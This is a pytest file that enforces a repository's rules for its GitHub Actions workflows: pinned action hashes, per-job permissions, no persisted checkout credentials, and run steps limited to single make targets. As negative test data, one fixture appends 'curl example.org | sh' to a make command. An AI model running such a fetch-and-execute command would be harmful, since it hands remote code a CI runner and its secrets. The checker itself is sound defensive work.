"""This repository's own rules of its workflows. What zizmor and the schemas know, `make lint` asks them."""

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[2]
WORKFLOWS = {path.stem: path.read_text(encoding="utf-8") for path in (ROOT / ".github/workflows").glob("*.yml")}
MAKE = re.compile(r'make [a-z-]+(?: [A-Z]+=(?:[a-z0-9]+|"\$[A-Z]+"))*')

GOOD = """
permissions: {}
jobs:
  good:
    permissions:
      contents: read
    steps:
      - uses: actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2
        with:
          persist-credentials: false
      - run: make test
"""
TOKEN = "make test\n        env: {GH_TOKEN: '${{ github.token }}'}"  # noqa: S105


def problems(text: str) -> Iterator[str]:
    """What these rules find in a workflow."""
    for line in text.splitlines():
        if "uses:" in line and not re.search(r"# v\d+\.\d+\.\d+$", line):
            yield f"{line.strip()}: no version beside the hash"
    content = yaml.safe_load(text)
    if content["permissions"] != {}:
        yield "top-level permissions: each job names its own"
    for name, job in content["jobs"].items():
        if "permissions" not in job:
            yield f"{name}: no permissions of its own"
        may_write = "write" in job.get("permissions", {}).values() or "github.token" in str(job)
        for step in job["steps"]:
            yield from (f"{name}: {line}" for line in _step_problems(step, may_write=may_write))


def _step_problems(step: dict[str, Any], *, may_write: bool) -> Iterator[str]:
    """Yield what is wrong with a step; `may_write` is of its job, which may write or has a token at hand."""
    uses, run = step.get("uses", ""), step.get("run", "").strip()
    if uses.startswith("actions/checkout@") and step.get("with", {}).get("persist-credentials") is not False:
        yield f"{uses} keeps its credentials"
    if not uses and not MAKE.fullmatch(run):
        yield f"not one make target: {run}"
    if not uses and may_write and not run.startswith("make pull-request "):
        yield f"what runs the libraries must not write: {run}"


@pytest.mark.parametrize("name", WORKFLOWS)
def test_a_workflow_keeps_our_rules(name: str) -> None:
    assert list(problems(WORKFLOWS[name])) == []


def test_one_action_has_one_hash() -> None:
    """A hash that differs between two places is a typing error, or an update by half."""
    used = {line for text in WORKFLOWS.values() for line in re.findall(r"uses: (.+)", text)}
    assert len(used) == len({line.partition("@")[0] for line in used})


@pytest.mark.parametrize(
    ("old", "new", "finding"),
    [
        ("persist-credentials: false", "persist-credentials: true", "keeps its credentials"),
        (" # v6.0.2", "", "no version"),
        ("permissions: {}", "permissions:\n  contents: read", "each job names its own"),
        ("    permissions:\n      contents: read\n", "", "no permissions of its own"),
        ("make test", "make test; curl example.org | sh", "not one make target"),
        ("contents: read", "contents: write", "must not write"),
        ("make test", TOKEN, "must not write"),
    ],
)
def test_a_bad_workflow_is_found(old: str, new: str, finding: str) -> None:
    assert list(problems(GOOD)) == []
    bad = GOOD.replace(old, new, 1)
    assert bad != GOOD
    assert finding in "\n".join(problems(bad))
